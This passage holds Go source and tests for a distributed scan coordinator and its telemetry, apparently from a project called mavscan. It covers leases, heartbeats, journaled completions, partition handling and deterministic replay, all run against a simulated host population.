	if !reflect.DeepEqual(a, b) {
		t.Fatalf("replayed traces differ:\n%v\n%v", a, b)
	}
	if len(a) != 3 {
		t.Fatalf("%d spans recorded, want 3", len(a))
	}
}

func TestSpanTreeShape(t *testing.T) {
	spans := runSpanScript()
	byName := map[string]SpanRecord{}
	for _, s := range spans {
		byName[s.Name] = s
	}
	root, ok := byName["pipeline.run"]
	if !ok || root.Parent != 0 {
		t.Fatalf("root span malformed: %+v", root)
	}
	for _, child := range []string{"stage1.portscan", "stage23.workers"} {
		c, ok := byName[child]
		if !ok {
			t.Fatalf("missing child span %s", child)
		}
		if c.Parent != root.ID {
			t.Errorf("%s parent = %d, want root %d", child, c.Parent, root.ID)
		}
	}
	if d := byName["stage1.portscan"].Duration(); d != 3*time.Second {
		t.Errorf("stage1 duration = %v, want 3s", d)
	}
	if d := root.Duration(); d != 6*time.Second {
		t.Errorf("root duration = %v, want 6s", d)
	}
}

func TestSpanLogBounded(t *testing.T) {
	reg := New(simtime.NewSim(t0))
	for i := 0; i < maxSpans+10; i++ {
		reg.StartSpan("s").End()
	}
	spans, dropped := reg.Spans()
	if len(spans) != maxSpans {
		t.Fatalf("log holds %d spans, want cap %d", len(spans), maxSpans)
	}
	if dropped != 10 {
		t.Fatalf("dropped = %d, want 10", dropped)
	}
	if reg.Snapshot().SpansDropped != 10 {
		t.Fatalf("snapshot dropped = %d", reg.Snapshot().SpansDropped)
	}
}
