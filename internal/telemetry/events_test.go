package telemetry

import (
	"bytes"
	"encoding/json"
	"fmt"
	"strings"
	"testing"
	"time"

	"mavscan/internal/simtime"
)

func TestEventSeqAndOrder(t *testing.T) {
	sim := simtime.NewSim(t0)
	reg := New(sim)
	reg.Event("a")
	sim.Advance(3 * time.Second)
	reg.Event("b", "k", "v")
	reg.Event("c")

	events, dropped := reg.Events()
	if dropped != 0 {
		t.Fatalf("dropped = %d, want 0", dropped)
	}
	if len(events) != 3 {
		t.Fatalf("len(events) = %d, want 3", len(events))
	}
	for i, want := range []string{"a", "b", "c"} {
		if events[i].Name != want {
			t.Fatalf("events[%d].Name = %q, want %q", i, events[i].Name, want)
		}
		if events[i].Seq != uint64(i+1) {
			t.Fatalf("events[%d].Seq = %d, want %d", i, events[i].Seq, i+1)
		}
	}
	if !events[0].Time.Equal(t0) {
		t.Fatalf("events[0].Time = %v, want %v", events[0].Time, t0)
	}
	if events[1].Time.Equal(events[0].Time) {
		t.Fatal("clock advance did not move the event timestamp")
	}
}

func TestEventLogKeepsMostRecent(t *testing.T) {
	reg := New(simtime.NewSim(t0))
	const extra = 37
	for i := 0; i < maxEvents+extra; i++ {
		reg.Event(fmt.Sprintf("e%d", i))
	}
	events, dropped := reg.Events()
	if dropped != extra {
		t.Fatalf("dropped = %d, want %d", dropped, extra)
	}
	if len(events) != maxEvents {
		t.Fatalf("len(events) = %d, want %d", len(events), maxEvents)
	}
	// Tail semantics: the oldest retained record is the (extra+1)-th
	// emitted, the newest is the last emitted, and Seq stays contiguous.
	if got, want := events[0].Name, fmt.Sprintf("e%d", extra); got != want {
		t.Fatalf("oldest retained = %q, want %q", got, want)
	}
	if got, want := events[len(events)-1].Name, fmt.Sprintf("e%d", maxEvents+extra-1); got != want {
		t.Fatalf("newest retained = %q, want %q", got, want)
	}
	for i := 1; i < len(events); i++ {
		if events[i].Seq != events[i-1].Seq+1 {
			t.Fatalf("Seq gap at %d: %d then %d", i, events[i-1].Seq, events[i].Seq)
		}
	}
}

func TestEventAppendJSONIsValidJSON(t *testing.T) {
	sim := simtime.NewSim(t0)
	reg := New(sim)
	reg.Event("weird", "quote", `say "hi"`, "slash", `a\b`, "nl", "x\ny", "utf8", "héllo — ✓")
	events, _ := reg.Events()
	line := events[0].AppendJSON(nil)

	var decoded map[string]any
	if err := json.Unmarshal(line, &decoded); err != nil {
		t.Fatalf("AppendJSON produced invalid JSON %q: %v", line, err)
	}
	for k, want := range map[string]string{
		"event": "weird",
		"quote": `say "hi"`,
		"slash": `a\b`,
		"nl":    "x\ny",
		"utf8":  "héllo — ✓",
	} {
		if got := decoded[k]; got != want {
			t.Fatalf("decoded[%q] = %q, want %q", k, got, want)
		}
	}
	if got := decoded["seq"].(float64); got != 1 {
		t.Fatalf("decoded seq = %v, want 1", got)
	}
	if got := decoded["t"].(string); got != "2021-06-03T00:00:00Z" {
		t.Fatalf("decoded t = %q, want RFC3339 start time", got)
	}
}

func TestEventsDeterministicUnderSim(t *testing.T) {
	render := func() string {
		reg := New(simtime.NewSim(t0))
		reg.Event("scan.start", "hosts", "12")
		reg.Event("segment.done", "shard", "0", "ordinal", "3")
		reg.Event("scan.done")
		var buf bytes.Buffer
		if err := reg.WriteEvents(&buf, 0, 0); err != nil {
			t.Fatal(err)
		}
		return buf.String()
	}
	a, b := render(), render()
	if a != b {
		t.Fatalf("same-seed event JSONL differs:\n%s\nvs\n%s", a, b)
	}
	if lines := strings.Count(a, "\n"); lines != 3 {
		t.Fatalf("JSONL line count = %d, want 3", lines)
	}
}

func TestWriteEventsTailAndAfter(t *testing.T) {
	reg := New(simtime.NewSim(t0))
	for i := 1; i <= 5; i++ {
		reg.Event(fmt.Sprintf("e%d", i))
	}
	names := func(tail int, after uint64) []string {
		var buf bytes.Buffer
		if err := reg.WriteEvents(&buf, tail, after); err != nil {
			t.Fatal(err)
		}
		var out []string
		for _, line := range strings.Split(strings.TrimSpace(buf.String()), "\n") {
			if line == "" {
				continue
			}
			var rec struct {
				Event string `json:"event"`
			}
			if err := json.Unmarshal([]byte(line), &rec); err != nil {
				t.Fatalf("bad JSONL line %q: %v", line, err)
			}
			out = append(out, rec.Event)
		}
		return out
	}
	if got := names(2, 0); !equalStrings(got, []string{"e4", "e5"}) {
		t.Fatalf("tail=2: %v, want [e4 e5]", got)
	}
	if got := names(0, 3); !equalStrings(got, []string{"e4", "e5"}) {
		t.Fatalf("after=3: %v, want [e4 e5]", got)
	}
	if got := names(1, 5); got != nil {
		t.Fatalf("after=last: %v, want empty", got)
	}
}

func TestNilRegistryEventsInert(t *testing.T) {
	var reg *Registry
	reg.Event("ignored", "k", "v")
	events, dropped := reg.Events()
	if events != nil || dropped != 0 {
		t.Fatalf("nil registry Events() = %v, %d; want nil, 0", events, dropped)
	}
	var buf bytes.Buffer
	if err := reg.WriteEvents(&buf, 0, 0); err != nil || buf.Len() != 0 {
		t.Fatalf("nil registry WriteEvents wrote %q err=%v", buf.String(), err)
	}
}

func TestWritePromSyntheticDroppedSeries(t *testing.T) {
	reg := New(simtime.NewSim(t0))
	reg.Event("only")
	var buf bytes.Buffer
	if err := reg.WriteProm(&buf); err != nil {
		t.Fatal(err)
	}
	out := buf.String()
	for _, series := range []string{SpansDroppedSeries, EventsDroppedSeries} {
		if !strings.Contains(out, series+" 0\n") {
			t.Fatalf("WriteProm missing synthetic series %s:\n%s", series, out)
		}
		if !strings.Contains(out, "# TYPE "+series+" counter\n") {
			t.Fatalf("WriteProm missing TYPE header for %s:\n%s", series, out)
		}
	}
}

func TestSnapshotCarriesEvents(t *testing.T) {
	reg := New(simtime.NewSim(t0))
	reg.Event("a", "k", "v")
	s := reg.Snapshot()
	if len(s.Events) != 1 || s.Events[0].Name != "a" {
		t.Fatalf("snapshot events = %+v, want one record named a", s.Events)
	}
	if s.EventsDropped != 0 {
		t.Fatalf("snapshot EventsDropped = %d, want 0", s.EventsDropped)
	}
}

func equalStrings(a, b []string) bool {
	if len(a) != len(b) {
		return false
	}
	for i := range a {
		if a[i] != b[i] {
			return false
		}
	}
	return true
}
