package fabric

import (
	"context"
	"errors"
	"testing"
	"time"

	"mavscan/internal/faults"
	"mavscan/internal/orchestrator"
	"mavscan/internal/resilience"
	"mavscan/internal/simtime"
)

// TestPartitionDoubleCompletion is the split-brain scenario the journal
// design exists for: worker A scans a segment but is partitioned before
// it can report, the coordinator expires A's lease and reassigns the
// segment to worker B, B completes it — and then the partition heals and
// A's cached completion lands late. Both completions are journaled, the
// duplicate is flagged, keep-first replay dedups them, and the merged
// report is still byte-identical to the monolithic run.
func TestPartitionDoubleCompletion(t *testing.T) {
	if testing.Short() {
		t.Skip("runs two full scans")
	}
	want := monolithicJSON(t, faults.Config{}, resilience.Policy{})
	opts, n := testScanOptions(t)
	store := orchestrator.NewMemStore()
	sim := simtime.NewSim(time.Date(2021, 4, 1, 0, 0, 0, 0, time.UTC))
	coord, err := NewCoordinator(CoordinatorConfig{
		Population:     testPop(),
		Scan:           opts,
		Shards:         2,
		Checkpoint:     orchestrator.Checkpoint{Store: store, Every: n/6 + 1},
		HeartbeatEvery: time.Second,
		MissedBeats:    2,
		Clock:          sim,
	})
	if err != nil {
		t.Fatal(err)
	}

	// Each worker gets its own transport so one side can be partitioned
	// while the other keeps talking — like two processes on two links.
	trA := NewPipeTransport(coord)
	trB := NewPipeTransport(coord)
	defer func() {
		for _, tr := range []*PipeTransport{trA, trB} {
			if err := tr.Close(); err != nil {
				t.Error(err)
			}
		}
	}()
	ctx := context.Background()
	wA, err := NewWorker(WorkerConfig{ID: "wA", Transport: trA, Clock: sim})
	if err != nil {
		t.Fatal(err)
	}
	wB, err := NewWorker(WorkerConfig{ID: "wB", Transport: trB, Clock: sim})
	if err != nil {
		t.Fatal(err)
	}

	step := func(w *Worker, want Action) {
		t.Helper()
		act, err := w.Step(ctx)
		if err != nil {
			t.Fatalf("step: %v (action %v)", err, act)
		}
		if act != want {
			t.Fatalf("step returned action %v, want %v", act, want)
		}
	}
	step(wA, ActionJoin)
	step(wB, ActionJoin)
	step(wA, ActionLease) // A now holds segment 0

	// Partition A. Its scan finishes but the completion call cannot land;
	// Step must surface the delivery error while caching the delta.
	trA.Break()
	act, err := wA.Step(ctx)
	if act != ActionScan || err == nil {
		t.Fatalf("partitioned scan: action %v err %v; want ActionScan with a delivery error", act, err)
	}

	// A is silent past its 2-beat budget; B's next request sweeps the
	// expired lease and picks the orphaned segment 0 back up.
	sim.Advance(3 * time.Second)
	step(wB, ActionLease)
	if got := coord.Reassignments(); len(got) != 1 || got[0] != 0 {
		t.Fatalf("reassignments after expiry = %v, want [0]", got)
	}
	step(wB, ActionScan) // B completes segment 0: first journaled copy

	// Partition heals; A retries only the cached delivery — never the
	// scan — and the coordinator takes it as a journaled duplicate.
	trA.Heal()
	step(wA, ActionComplete)

	seg0 := 0
	if err := store.Replay("scan", func(rec orchestrator.Record) error {
		if rec.Kind == orchestrator.KindSegment && rec.Segment == 0 {
			seg0++
		}
		return nil
	}); err != nil {
		t.Fatal(err)
	}
	if seg0 != 2 {
		t.Fatalf("journal holds %d completions for segment 0, want 2 (original + duplicate)", seg0)
	}

	// Drain the rest of the plan with both workers.
	for steps := 0; !done(coord); steps++ {
		if steps > 200 {
			t.Fatal("fleet made no progress after heal")
		}
		for _, w := range []*Worker{wA, wB} {
			if done(coord) {
				break
			}
			if _, err := w.Step(ctx); err != nil {
				t.Fatal(err)
			}
		}
		sim.Advance(time.Second / 2)
	}
	rep, err := coord.Report()
	if err != nil {
		t.Fatal(err)
	}
	if got := reportJSON(t, rep); string(got) != string(want) {
		t.Error("report after partition + double completion differs from monolithic")
	}

	// Keep-first replay: a resumed coordinator over the same journal —
	// duplicates and all — reconstructs the identical report.
	coord2, err := NewCoordinator(CoordinatorConfig{
		Population: testPop(), Scan: opts, Shards: 2,
		Checkpoint: orchestrator.Checkpoint{Store: store, Every: n/6 + 1, Resume: true},
		Clock:      sim,
	})
	if err != nil {
		t.Fatal(err)
	}
	if !done(coord2) {
		t.Fatal("resumed coordinator should see the plan complete")
	}
	rep2, err := coord2.Report()
	if err != nil {
		t.Fatal(err)
	}
	if got := reportJSON(t, rep2); string(got) != string(want) {
		t.Error("replayed report differs from monolithic")
	}
}

// TestDialLoopbackRefusesNonLoopback pins the transport trust model: the
// wire protocol is unauthenticated, so the dialer only ever connects to
// the local machine.
func TestDialLoopbackRefusesNonLoopback(t *testing.T) {
	for _, addr := range []string{"192.0.2.1:7777", "example.com:7777", "no-port"} {
		if _, err := DialLoopback(addr); err == nil {
			t.Errorf("DialLoopback(%q) succeeded, want refusal", addr)
		}
	}
	for _, addr := range []string{"127.0.0.1:7777", "localhost:7777", ":7777", "[::1]:7777"} {
		if _, err := DialLoopback(addr); err != nil {
			t.Errorf("DialLoopback(%q): %v", addr, err)
		}
	}
}

// TestPipeTransportClosed verifies calls fail cleanly after Close rather
// than hanging on a dead listener.
func TestPipeTransportClosed(t *testing.T) {
	opts, _ := testScanOptions(t)
	coord, err := NewCoordinator(CoordinatorConfig{
		Population: testPop(), Scan: opts, Shards: 1,
	})
	if err != nil {
		t.Fatal(err)
	}
	tr := NewPipeTransport(coord)
	if err := tr.Close(); err != nil {
		t.Fatal(err)
	}
	var resp beatResponse
	err = tr.Call(context.Background(), endpointBeat, &beatRequest{Worker: "w"}, &resp)
	if err == nil {
		t.Fatal("call on closed transport succeeded")
	}
	if errors.Is(err, context.DeadlineExceeded) {
		t.Fatalf("call on closed transport timed out instead of failing fast: %v", err)
	}
}
