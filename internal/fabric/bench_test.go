package fabric

import (
	"context"
	"fmt"
	"testing"

	"mavscan/internal/orchestrator"
	"mavscan/internal/population"
	"mavscan/internal/scanner"
)

// BenchmarkFabricScan measures a full fabric scan — coordinator, pipe
// transport, worker fleet, journal — at 1, 4 and 8 workers over the same
// world and seed. One iteration is a complete scan; compare against the
// monolithic variant for the protocol's overhead.
func BenchmarkFabricScan(b *testing.B) {
	b.Run("monolithic", func(b *testing.B) {
		b.ReportAllocs()
		for i := 0; i < b.N; i++ {
			b.StopTimer()
			world, err := population.Generate(testPop())
			if err != nil {
				b.Fatal(err)
			}
			opts := scanner.Options{
				Targets:         world.Geo.Prefixes(),
				Seed:            9,
				SkipFingerprint: true,
			}
			pipe := scanner.New(world.Net)
			b.StartTimer()
			if _, err := pipe.Run(context.Background(), opts); err != nil {
				b.Fatal(err)
			}
		}
	})
	for _, workers := range []int{1, 4, 8} {
		b.Run(fmt.Sprintf("workers=%d", workers), func(b *testing.B) {
			b.ReportAllocs()
			for i := 0; i < b.N; i++ {
				rep, err := Run(context.Background(), Config{
					// 8 shards, one segment each (Every 0): enough leases to
					// occupy the widest fleet without drowning the scan in
					// per-segment pipeline setup.
					Coordinator: CoordinatorConfig{
						Population: testPop(),
						Scan:       scanner.Options{Seed: 9, SkipFingerprint: true},
						Shards:     8,
						Checkpoint: orchestrator.Checkpoint{Store: orchestrator.NewMemStore()},
					},
					Workers: workers,
				})
				if err != nil {
					b.Fatal(err)
				}
				if i == 0 {
					b.Logf("workers=%d probed=%d open=%d apps=%d", workers, rep.Stats.Probed, rep.Stats.Open, len(rep.Apps))
				}
			}
		})
	}
}
