// Package fabric distributes an orchestrated scan across worker
// processes: a coordinator serves the orchestrator's segment plan as
// leases over a pluggable wire Transport, and workers acquire leases, run
// the existing per-shard scanner.Pipeline over the leased segments, and
// report deltas back.
//
// The paper's Stage I ran from a 64-machine fleet; PR 5's orchestrator
// reproduced the shard/checkpoint/merge model inside one process, and
// this package promotes it across a process boundary without changing
// the correctness bar: segments still partition addresses (never ports),
// per-segment seeds still come from orchestrator.PlanSegments, and the
// merge still folds in ordinal order — so a fabric scan with worker
// kills, lease expiries, and reassignments produces a byte-identical
// merged report versus the monolithic pipeline.
//
// Failure model. Liveness is worker-granular: every request a worker
// makes doubles as a heartbeat, and a worker that stays silent for
// MissedBeats heartbeat intervals is declared lost. Its leases expire and
// the orphaned segments return to the head of the pending queue in
// ordinal order, so reassignment order is a deterministic function of
// (plan, kill schedule) rather than of scheduling noise. Completions are
// keep-first: a partitioned worker that finishes a segment and reconnects
// after its lease was reassigned journals a duplicate record, which
// replay dedups — the same idempotence the checkpoint journal already
// guarantees for crash-resume.
//
// The journal is the source of truth: the coordinator appends every
// completion (duplicates included) to the pluggable checkpoint Store, so
// a killed coordinator resumes by replay exactly like the in-process
// orchestrator, and an eslite-backed store doubles as a fleet-wide audit
// log. Worker state, in contrast, is disposable — each worker regenerates
// the identical world from the shipped population.Config (host state is a
// pure function of (seed, address)), which is what makes a reassigned
// segment's delta byte-identical no matter which process scans it.
package fabric

import (
	"context"
	"encoding/json"
	"errors"
	"time"

	"mavscan/internal/faults"
	"mavscan/internal/orchestrator"
	"mavscan/internal/population"
	"mavscan/internal/resilience"
	"mavscan/internal/scanner"
)

// Transport carries one coordinator-bound RPC: req is JSON-encoded, sent
// to the named endpoint (join, lease, beat, complete), and the reply is
// decoded into resp. Implementations: PipeTransport (in-memory net.Pipe
// pair, hermetic) and the loopback HTTP transport from DialLoopback.
type Transport interface {
	Call(ctx context.Context, endpoint string, req, resp any) error
}

// Wire endpoints, relative to the /fabric/v1/ prefix.
const (
	endpointJoin     = "join"
	endpointLease    = "lease"
	endpointBeat     = "beat"
	endpointComplete = "complete"
)

// maxWireBytes bounds every wire read on both sides of the protocol. The
// largest message is a completion delta (a segment's partial report);
// peers are same-trust-domain processes, but the transport is still a
// network reader and stays under the boundedread discipline.
const maxWireBytes = 64 << 20

// ErrKilled is returned by a worker whose injected kill schedule
// (faults.Config.WorkerCrashRate via Plan.WorkerKill) fired: the worker
// stops heartbeating and abandons its lease, modelling a process lost
// mid-scan. Supervisors (fabric.Run, the CLI) treat it as a process
// death, not a scan error.
var ErrKilled = errors.New("fabric: worker killed by fault schedule")

// JoinSpec is everything a worker needs to reconstruct the scan locally:
// the world recipe, the scan options, the plan shape, and the heartbeat
// contract. It is shipped in the join response, so a worker binary needs
// no scan configuration of its own — pointing it at a coordinator is
// enough.
type JoinSpec struct {
	// RunID names the journal stream completions are appended to.
	RunID string `json:"run_id"`
	// Fingerprint is the orchestrator.PlanFingerprint of the plan; workers
	// with a local journal use it the same way resume does.
	Fingerprint string `json:"fingerprint"`
	// Population is the world recipe. Host state is a pure function of
	// (seed, address), so every worker materializes the identical world.
	Population population.Config `json:"population"`
	// Scan carries the pipeline options (Targets filled in, Space unset:
	// each lease ships its own flat-index window).
	Scan scanner.Options `json:"scan"`
	// Shards is the plan's shard count (pipelines label telemetry with it).
	Shards int `json:"shards"`
	// Faults seeds the worker's endpoint fault plan and its kill schedule.
	Faults faults.Config `json:"faults"`
	// Resilience is the HTTP-stage retry policy.
	Resilience resilience.Policy `json:"resilience"`
	// HTTPTimeout overrides the per-request timeout (0 = 10s default).
	HTTPTimeout time.Duration `json:"http_timeout"`
	// HeartbeatEvery is the beat cadence; MissedBeats is K, the number of
	// missed beats after which a worker's leases expire.
	HeartbeatEvery time.Duration `json:"heartbeat_every"`
	MissedBeats    int           `json:"missed_beats"`
}

// Lease is one granted unit of work: a segment, who holds it, and the
// grant ordinals that make kill draws and reassignment audits stable.
type Lease struct {
	// ID is the coordinator-wide monotonic grant number.
	ID int `json:"id"`
	// Worker is the holder's ID.
	Worker string `json:"worker"`
	// Grant is the holder's 1-based per-worker grant ordinal — the lease
	// coordinate the kill schedule draws on (faults.Plan.WorkerKill).
	Grant int `json:"grant"`
	// Segment is the leased work unit, straight from the shared plan.
	Segment orchestrator.Segment `json:"segment"`
}

type joinRequest struct {
	Worker string `json:"worker"`
}

type joinResponse struct {
	Accepted bool   `json:"accepted"`
	Reason   string `json:"reason,omitempty"`
	// Index is the worker's 0-based join ordinal — the worker coordinate
	// of its kill draws.
	Index int      `json:"index"`
	Spec  JoinSpec `json:"spec"`
}

type leaseRequest struct {
	Worker string `json:"worker"`
}

type leaseResponse struct {
	// Done reports the whole plan complete: the worker should exit.
	Done bool `json:"done"`
	// Granted is false when every pending segment is currently leased out;
	// the worker idles one heartbeat and asks again.
	Granted bool  `json:"granted"`
	Lease   Lease `json:"lease"`
}

type beatRequest struct {
	Worker string `json:"worker"`
}

type beatResponse struct {
	Done bool `json:"done"`
}

type completeRequest struct {
	Worker  string `json:"worker"`
	LeaseID int    `json:"lease_id"`
	Ordinal int    `json:"ordinal"`
	// Delta is the segment's JSON-encoded partial report — the same
	// encoding the checkpoint journal stores, so the coordinator journals
	// it verbatim.
	Delta json.RawMessage `json:"delta"`
}

type completeResponse struct {
	Accepted bool `json:"accepted"`
	// Duplicate marks a keep-first rejection: another completion for the
	// same segment landed earlier (typically after a lease expiry and
	// reassignment). The work is discarded but the record is journaled, so
	// the double completion is auditable and replay stays idempotent.
	Duplicate bool `json:"duplicate"`
}
