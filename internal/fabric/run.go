package fabric

import (
	"context"
	"errors"
	"fmt"
	"strconv"
	"sync"

	"mavscan/internal/scanner"
	"mavscan/internal/simtime"
)

// Config parametrizes an in-process fabric run: a coordinator plus a
// supervised fleet of workers, wired over a hermetic PipeTransport. It
// is the single-binary form of the coordinate/work pair — what the
// benchmarks and `mav scan -fabric-workers` use — and it exercises the
// identical protocol path as a multi-process run.
type Config struct {
	// Coordinator is the plan and lease configuration.
	Coordinator CoordinatorConfig
	// Workers is the fleet size (default 1).
	Workers int
	// Sleep paces worker idle/retry loops (default wall clock).
	Sleep simtime.Sleeper
}

// Run executes a fabric scan in one process and returns the merged
// report. Workers killed by the fault schedule are respawned under a
// fresh ID — the supervisor-restarts-the-process model — so the run
// always drains the plan; every kill still exercises the full lease
// expiry and reassignment path before the respawned worker picks the
// orphaned segments back up.
func Run(ctx context.Context, cfg Config) (*scanner.Report, error) {
	workers := cfg.Workers
	if workers <= 0 {
		workers = 1
	}
	coord, err := NewCoordinator(cfg.Coordinator)
	if err != nil {
		return nil, err
	}
	transport := NewPipeTransport(coord)
	defer func() {
		if err := transport.Close(); err != nil {
			cfg.Coordinator.Telemetry.Event("fabric.transport.close_error", "err", err.Error())
		}
	}()

	runCtx, cancel := context.WithCancel(ctx)
	defer cancel()

	s := &supervisor{
		ctx:       runCtx,
		cancel:    cancel,
		coord:     coord,
		transport: transport,
		sleep:     cfg.Sleep,
	}
	s.wg.Add(workers)
	for i := 0; i < workers; i++ {
		go s.runWorker(fmt.Sprintf("w%d", i))
	}
	s.wg.Wait()
	if s.firstErr != nil {
		return nil, s.firstErr
	}
	if err := coord.Wait(ctx); err != nil {
		return nil, err
	}
	return coord.Report()
}

// supervisor owns the worker fleet of one in-process run.
type supervisor struct {
	ctx       context.Context
	cancel    context.CancelFunc
	coord     *Coordinator
	transport *PipeTransport
	sleep     simtime.Sleeper

	wg       sync.WaitGroup
	mu       sync.Mutex
	respawns int
	firstErr error
}

// runWorker drives one worker to completion, respawning it in place
// (fresh ID, fresh world) whenever the kill schedule fires. Real scan
// errors cancel the whole run.
func (s *supervisor) runWorker(id string) {
	defer s.wg.Done()
	for {
		w, err := NewWorker(WorkerConfig{
			ID:        id,
			Transport: s.transport,
			Clock:     s.coord.clock,
			Sleep:     s.sleep,
			Telemetry: s.coord.cfg.Telemetry,
		})
		if err != nil {
			s.fail(err)
			return
		}
		err = w.Run(s.ctx)
		switch {
		case err == nil:
			return
		case errors.Is(err, ErrKilled):
			select {
			case <-s.coord.Done():
				return
			case <-s.ctx.Done():
				return
			default:
			}
			s.mu.Lock()
			s.respawns++
			n := s.respawns
			s.mu.Unlock()
			id = fmt.Sprintf("%s.r%d", id, n)
			s.coord.cfg.Telemetry.Event("fabric.worker.respawn",
				"worker", id, "respawn", strconv.Itoa(n))
		default:
			s.fail(err)
			return
		}
	}
}

// fail records the first real error and cancels the fleet.
func (s *supervisor) fail(err error) {
	s.mu.Lock()
	if s.firstErr == nil && !errors.Is(err, context.Canceled) {
		s.firstErr = err
	}
	s.mu.Unlock()
	s.cancel()
}
