package fabric

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"testing"
	"time"

	"mavscan/internal/faults"
	"mavscan/internal/iprange"
	"mavscan/internal/orchestrator"
	"mavscan/internal/population"
	"mavscan/internal/resilience"
	"mavscan/internal/scanner"
	"mavscan/internal/simtime"
)

// testPop is the standard small scan world recipe (the same one the
// orchestrator's identity tests use). Every worker regenerates it
// independently, which is the property the whole fabric rests on.
func testPop() population.Config {
	return population.Config{
		Seed: 9, HostScale: 8000, VulnScale: 8,
		BackgroundScale: -1, WildcardScale: -1,
	}
}

func testScanOptions(tb testing.TB) (scanner.Options, uint64) {
	tb.Helper()
	world, err := population.Generate(testPop())
	if err != nil {
		tb.Fatal(err)
	}
	set, err := iprange.FromPrefixes(world.Geo.Prefixes())
	if err != nil {
		tb.Fatal(err)
	}
	return scanner.Options{Targets: world.Geo.Prefixes(), Seed: 9}, set.NumAddresses()
}

// monolithicJSON runs the unsharded pipeline on a fresh world — with the
// same endpoint fault plan and retry policy a fabric run would ship to
// its workers — and returns the canonical JSON of its report.
func monolithicJSON(tb testing.TB, fcfg faults.Config, pol resilience.Policy) []byte {
	tb.Helper()
	world, err := population.Generate(testPop())
	if err != nil {
		tb.Fatal(err)
	}
	if fcfg.Enabled() {
		world.Net.SetFaults(faults.NewPlan(fcfg, nil))
	}
	opts := scanner.Options{Targets: world.Geo.Prefixes(), Seed: 9}
	rep, err := scanner.New(world.Net, scanner.WithResilience(pol)).Run(context.Background(), opts)
	if err != nil {
		tb.Fatal(err)
	}
	return reportJSON(tb, rep)
}

// reportJSON canonicalizes a report for byte-level comparison (Elapsed is
// wall-clock noise and is zeroed).
func reportJSON(tb testing.TB, rep *scanner.Report) []byte {
	tb.Helper()
	cp := *rep
	cp.Stats.Elapsed = 0
	b, err := json.Marshal(&cp)
	if err != nil {
		tb.Fatal(err)
	}
	return b
}

// lockstepResult is one deterministic fabric run's observable outcome.
type lockstepResult struct {
	report       []byte
	reassigned   []int
	kills        int
	journalCount int
}

// runLockstep executes one fabric scan with every protocol interaction
// serialized by the test: workers step round-robin on a simulated clock,
// kill-schedule deaths remove the worker and respawn a replacement, and
// the clock advances by advance(round) between rounds — which is what
// positions kills at or between heartbeats.
func runLockstep(t *testing.T, workers int, fcfg faults.Config, pol resilience.Policy, advance func(round int) time.Duration) lockstepResult {
	t.Helper()
	opts, n := testScanOptions(t)
	const hb = time.Second
	store := orchestrator.NewMemStore()
	sim := simtime.NewSim(time.Date(2021, 4, 1, 0, 0, 0, 0, time.UTC))
	coord, err := NewCoordinator(CoordinatorConfig{
		Population:     testPop(),
		Scan:           opts,
		Shards:         2,
		Checkpoint:     orchestrator.Checkpoint{Store: store, Every: n/6 + 1},
		Faults:         fcfg,
		Resilience:     pol,
		HeartbeatEvery: hb,
		MissedBeats:    2,
		Clock:          sim,
	})
	if err != nil {
		t.Fatal(err)
	}
	tr := NewPipeTransport(coord)
	defer func() {
		if err := tr.Close(); err != nil {
			t.Error(err)
		}
	}()

	ctx := context.Background()
	newWorker := func(id string) *Worker {
		w, err := NewWorker(WorkerConfig{ID: id, Transport: tr, Clock: sim})
		if err != nil {
			t.Fatal(err)
		}
		return w
	}
	var live []*Worker
	for i := 0; i < workers; i++ {
		live = append(live, newWorker(fmt.Sprintf("w%d", i)))
	}

	kills, respawns := 0, 0
	for round := 0; ; round++ {
		if round > 5000 {
			t.Fatal("fabric run made no progress in 5000 rounds")
		}
		if done(coord) {
			break
		}
		var alive []*Worker
		for _, w := range live {
			if done(coord) {
				alive = append(alive, w)
				continue
			}
			_, err := w.Step(ctx)
			switch {
			case errors.Is(err, ErrKilled):
				kills++
				respawns++
				alive = append(alive, newWorker(fmt.Sprintf("r%d", respawns)))
			case err != nil:
				t.Fatal(err)
			default:
				alive = append(alive, w)
			}
		}
		live = alive
		sim.Advance(advance(round))
	}
	rep, err := coord.Report()
	if err != nil {
		t.Fatal(err)
	}
	count := 0
	if err := store.Replay("scan", func(rec orchestrator.Record) error {
		if rec.Kind == orchestrator.KindSegment {
			count++
		}
		return nil
	}); err != nil {
		t.Fatal(err)
	}
	return lockstepResult{
		report:       reportJSON(t, rep),
		reassigned:   coord.Reassignments(),
		kills:        kills,
		journalCount: count,
	}
}

func done(c *Coordinator) bool {
	select {
	case <-c.Done():
		return true
	default:
		return false
	}
}

// TestLeaseExpiryDeterminism is the fabric's headline acceptance: with
// the same seed and the same kill schedule, two runs produce the same
// kill count, the identical reassignment order, and a merged report
// byte-identical to the monolithic pipeline — for fleets of 1, 3 and 8
// workers, with clock advances that land kills both at and between
// heartbeat boundaries.
func TestLeaseExpiryDeterminism(t *testing.T) {
	if testing.Short() {
		t.Skip("runs many full scans")
	}
	fcfg := faults.Config{Seed: 7, WorkerCrashRate: 0.4}
	want := monolithicJSON(t, fcfg, resilience.Policy{})
	const hb = time.Second
	advances := map[string]func(int) time.Duration{
		"at-beats": func(int) time.Duration { return hb },
		"between-beats": func(round int) time.Duration {
			if round%2 == 0 {
				return hb / 2
			}
			return 3 * hb / 2
		},
	}
	totalKills := 0
	for _, workers := range []int{1, 3, 8} {
		for name, adv := range advances {
			a := runLockstep(t, workers, fcfg, resilience.Policy{}, adv)
			b := runLockstep(t, workers, fcfg, resilience.Policy{}, adv)
			if a.kills != b.kills {
				t.Errorf("workers=%d %s: kill counts differ between identical runs: %d vs %d",
					workers, name, a.kills, b.kills)
			}
			if fmt.Sprint(a.reassigned) != fmt.Sprint(b.reassigned) {
				t.Errorf("workers=%d %s: reassignment order differs: %v vs %v",
					workers, name, a.reassigned, b.reassigned)
			}
			if string(a.report) != string(want) {
				t.Errorf("workers=%d %s: merged report differs from monolithic", workers, name)
			}
			if string(b.report) != string(want) {
				t.Errorf("workers=%d %s: second run's report differs from monolithic", workers, name)
			}
			totalKills += a.kills
		}
	}
	if totalKills == 0 {
		t.Error("kill schedule never fired; raise WorkerCrashRate so the reassignment path is exercised")
	}
}

// TestFaultedFabricMatchesMonolithic runs one lockstep fleet under
// endpoint faults plus retries: every worker derives the same fault
// draws from the shipped config, so the merged report still matches a
// monolithic run with the identical plan installed.
func TestFaultedFabricMatchesMonolithic(t *testing.T) {
	if testing.Short() {
		t.Skip("runs two full scans")
	}
	fcfg := faults.Config{Seed: 11, Rate: 0.05, WorkerCrashRate: 0.3}
	pol := resilience.Policy{MaxAttempts: 3, JitterSeed: 11}
